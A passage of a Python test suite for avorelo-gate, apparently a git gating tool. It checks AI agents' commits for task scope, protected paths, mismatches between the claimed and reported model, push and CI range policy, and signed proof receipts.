                   ObservedModel(name="claude-opus-4-1-20250805", agent="claude"))
    repo.write("src/a.py", "b\n")
    repo.add()
    msg = repo.path.parent / "msg.txt"
    msg.write_text("edit\n\nTask: T-1\nModel: claude-haiku-4-5\n")
    warned = ("the claimed model 'claude-haiku-4-5' is not the model claude reported using "
              "('claude-opus-4-1-20250805'); the receipt records both")
    hooked = repo.gate("hook", "commit-msg", str(msg))
    assert hooked.returncode == 0, hooked.stderr
    assert warned in hooked.stderr
    repo.git("-c", "core.hooksPath=/dev/null", "commit", "-q", "-F", str(msg))
    attached = repo.gate("hook", "post-commit")
    assert attached.returncode == 0 and "(the commit-msg verdict)" in attached.stderr
    predicate = json.loads(note_of(repo) or b"")["predicate"]
    assert predicate["model"] == {
        "weight": None, "name": "claude-haiku-4-5", "claimed": True,
        "source": {"weight": None, "name": "trailer:Model"},
        "observed": {"name": "claude-opus-4-1-20250805", "agent": "claude"}}
    assert predicate["warnings"] == [warned]
    code, found = _verified(repo, "HEAD~1..HEAD")
    assert code == 0, found


def test_in_process_push_judges_the_task_from_the_remotes_side(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)          # task.yaml on the remote: src/**
    p.commit(".avorelo/task.yaml", 'id: T-1\nscope: ["src/**", "docs/**"]\n', "widen")
    wide = p.commit("docs/guide.md", "guide\n", "docs")
    proc = push_main(p)
    # The push may narrow the task the remote has, never widen it for its own commits.
    assert proc.returncode == 1, proc.stderr
    assert "docs/guide.md: out-of-scope" in proc.stderr and f"[{wide[:12]}]" in proc.stderr
    # A task file the remote does not have is the push's own declaration (self-declared).
    p.work.git("reset", "-q", "--hard", "origin/main")
    p.commit(".avorelo/tasks/DOC-7.yaml", 'id: DOC-7\nscope: ["docs/**"]\n',
             "plan\n\nTask: DOC-7")
    p.commit("docs/guide.md", "guide\n", "docs\n\nTask: DOC-7")
    proc = push_main(p)
    assert proc.returncode == 0, proc.stderr


def test_in_process_pre_commit_framework_push_of_less_than_the_branch(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    on_remote = rev(p.work, "main")
    good = p.commit("src/b.py")
    p.commit("docs/guide.md", "guide\n", "docs")             # main's tip, not pushed
    env = {"PRE_COMMIT_FROM_REF": on_remote, "PRE_COMMIT_TO_REF": good,
           "PRE_COMMIT_LOCAL_BRANCH": "refs/heads/main",
           "PRE_COMMIT_REMOTE_BRANCH": "refs/heads/main", "PRE_COMMIT_REMOTE_NAME": "origin"}
    proc = p.work.gate("hook", "pre-push", input=b"", env=env)
    out = proc.stdout + proc.stderr
    # `git push origin HEAD~1:main`: the framework's TO ref, not the branch's tip, is pushed.
    assert proc.returncode == 0, out
    assert f"refs/heads/main: 1 new commit(s), all pass (policy at {on_remote[:12]})" in out


def test_in_process_push_of_a_tag_whose_object_is_missing(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    body = (f"object {'3' * 40}\ntype blob\ntag broken\n"
            "tagger T <t@example.org> 1767225600 +0000\n\nbroken\n").encode()
    tag = p.work.git("hash-object", "-t", "tag", "-w", "--literally", "--stdin",
                     input=body).stdout.decode().strip()
    proc = hook_push(p, line("refs/tags/broken", tag, "refs/tags/broken", ZERO))
    assert proc.returncode == 0, proc.stderr
    assert ("refs/tags/broken: points at a tag, not a commit (a tag of a missing object?): "
            "nothing to check") in proc.stderr


def test_in_process_pre_commit_framework_force_push_is_judged_at_the_remotes_tip(
        make_repo, tmp_path) -> None:  # type: ignore[no-untyped-def]
    p = make_pushing(make_repo, tmp_path, POLICY)
    loose = rev(p.work, "main")
    tight = p.commit(".avorelo/policy.yaml", POLICY.replace('"ci/**"', '"ci/**", "src/key/**"'),
                     "protect keys")
    p.work.git("push", "-q", "--no-verify", "origin", "main")
    p.work.git("reset", "-q", "--hard", loose)
    p.commit("src/key/k.py", "k\n", "rotate")
    # The framework's FROM ref is the remote's tip; no branch names given.
    env = {"PRE_COMMIT_FROM_REF": tight, "PRE_COMMIT_TO_REF": "HEAD",
           "PRE_COMMIT_REMOTE_NAME": "origin"}
    proc = p.work.gate("hook", "pre-push", input=b"", env=env)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert "src/key/k.py: protected" in out
    assert f"note: : 1 new commit(s), 1 failed (policy at {tight[:12]})" in out


# -- points/ci.py, written during the fourth session's run ----------------------------------
def test_ci_judges_by_the_commits_words_not_the_ci_jobs_task_variables(make_repo) -> None:  # type: ignore[no-untyped-def]
    """README: pre-push and ``ci`` read the commit's own message; a CI job that happens to
    carry an agent's ``AVORELO_TASK``/``AVORELO_MODEL_WEIGHT`` judges the range as without."""
    from test_ci import ci_json, make_project

    project = make_project(make_repo)
    commit_file(project, "src/b.py", "b\n\nTask: T-1")
    env = {"AVORELO_TASK": "OTHER-2", "AVORELO_MODEL_WEIGHT": "heavy", "AVORELO_MODEL": "m"}
    for environ in (None, env):
        code, report = ci_json(project, env=environ)
        assert code == 0, report
        task = report["task"]
        assert isinstance(task, dict) and task["id"] == "T-1", report


def test_ci_range_reads_the_tasks_context_at_the_merge_base(make_repo) -> None:  # type: ignore[no-untyped-def]
    """A task's context is what it was planned against: at commit time the parent's version
    (HEAD), in ``ci`` the merge base's, for the range as for each commit. A branch that edits a
    pinned context file it may touch passes at both points."""
    from test_ci import ci_json, rules

    repo: GitRepo = make_repo("context")
    repo.write(".avorelo/policy.yaml", "version: 1\nrequire_task: true\n")
    repo.write("docs/auth.md", "how auth works\n")
    repo.add()
    repo.commit("init")
    blob = rev(repo, "HEAD:docs/auth.md")
    repo.write(".avorelo/task.yaml", "id: T-1\nscope: ['docs/**', 'src/**']\n"
               f"context:\n  - {{path: docs/auth.md, blob: {blob}}}\n")
    repo.add()
    repo.commit("plan")
    repo.git("switch", "-q", "-c", "feature")
    repo.write("docs/auth.md", "how auth works now\n")
    repo.add()
    staged = repo.gate("check", "--format", "json")
    assert staged.returncode == 0, staged.stdout        # commit time: fresh against HEAD
    repo.commit("document the change\n\nTask: T-1")
    code, report = ci_json(repo)
    assert code == 0, report
    assert not {r for r, _ in rules(report)}, report
    # The neighbour: a pin the merge base itself contradicts is stale in the range too.
    repo.git("switch", "-q", "main")
    repo.write("docs/auth.md", "rewritten on main\n")
    repo.add()
    repo.commit("rewrite on main\n\nTask: T-1")
    repo.git("switch", "-q", "feature")
    repo.git("merge", "-q", "--no-edit", "-X", "ours", "main")
    code, report = ci_json(repo)
    assert code == 1, report
    assert ("context-stale", "docs/auth.md") in rules(report)


def test_ci_reports_each_commit_by_its_id_and_the_range_as_the_range(make_repo) -> None:  # type: ignore[no-untyped-def]
    import defusedxml.ElementTree as SafeET
    from test_ci import make_project

    project = make_project(make_repo)
    base = rev(project, "main")
    sha = commit_file(project, "src/b.py", "b")
    text = project.gate("ci", "--base", "main")
    assert text.returncode == 0, text.stderr
    assert text.stdout.splitlines()[::2][:2] == [
        f"avorelo-gate: PASS commit {sha[:12]} (task T-1)", "avorelo-gate: PASS range (task T-1)"]
    junit = project.gate("ci", "--base", "main", "--format", "junit")
    assert junit.returncode == 0, junit.stderr
    suites = SafeET.fromstring(junit.stdout).findall("testsuite")
    assert [s.get("name") for s in suites] == [f"avorelo-gate.{sha}", "avorelo-gate.range"]
    assert [{p.get("name"): p.get("value") for p in s.iter("property")} for s in suites] == [
        {"base": base, "head": sha, "verdict": "pass"}] * 2


def test_ci_demands_signed_receipts_by_the_base_policy_for_the_range_too(
        make_repo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """The merge base's ``receipts: {signed: true}`` holds for the range's credit as for each
    commit's: a branch that loosens it (allowed by a maintainer) gets no credit for the
    unsigned receipt it recorded under its own looser policy, with no key in CI."""
    import sys

    from conftest import ci_runner

    dev: GitRepo = make_repo("dev")
    dev.write(".avorelo/policy.yaml", "version: 1\nreceipts: {signed: true}\n")
    dev.write(".avorelo/tasks/T-1.yaml",
              "id: T-1\nscope: ['src/**']\nproof:\n  - command: tests\n")
    dev.write("src/app.py", "a = 1\n")
    dev.add()
    dev.commit("init")
    dev.git("switch", "-q", "-c", "feature")
    dev.write(".avorelo/policy.yaml", "version: 1\n")
    dev.add()
    dev.commit("loosen\n\nTask: T-1")
    dev.write("src/app.py", "a = 2\n")
    dev.add()
    proved = dev.gate("prove", "--name", "tests", "--", sys.executable, "-c", "print('ok')")
    assert proved.returncode == 0, proved.stderr
    dev.commit("change\n\nTask: T-1")
    recorded = dev.gate("receipt", "record")
    assert recorded.returncode == 0, recorded.stderr
    ci = ci_runner(dev, tmp_path)
    verified = ci.gate("receipt", "verify", "origin/feature~1..origin/feature")
    assert verified.returncode == 0, verified.stdout      # head's receipt itself is valid
    proc = ci.gate("ci", "--base", "origin/main", "--head", "origin/feature", "--format",
                   "json", "--allow-policy-change")
    report = json.loads(proc.stdout)
    assert proc.returncode == 1, proc.stderr
    assert [c["proof"][0]["status"] for c in report["commits"]] == ["missing", "missing"]
    assert report["proof"][0]["status"] == "missing", report["proof"]
    assert {v["rule"] for v in report["violations"]} == {"proof-missing"}


def test_ci_range_task_is_read_against_the_merge_base(make_repo) -> None:  # type: ignore[no-untyped-def]
    """The range's task is resolved with the merge base as its base: a task file the base
    already has is neither self-declared nor widened by the branch (a range task resolved
    with no base at all would be self-declared, and refused under a policy that says so)."""
    from test_ci import make_project

    policy = 'version: 1\nrequire_task: true\nself_declared_tasks: refuse\n'
    repo = make_project(make_repo, policy)
    repo.write(".avorelo/task.yaml", 'id: T-1\nscope: ["src/**", "docs/**"]\n')
    repo.write("src/b.py", "b = 1\n")
    repo.add()
    repo.commit("widen the task and work\n\nTask: T-1")
    proc = repo.gate("ci", "--base", "main", "--head", "feature", "--format", "json")
    report = json.loads(proc.stdout)
    assert "self_declared" not in report["task"], report["task"]
    assert report["task"]["narrowed_by"] == [f".avorelo/task.yaml at {rev(repo, 'main')[:12]}"]
    assert proc.returncode == 0, proc.stdout
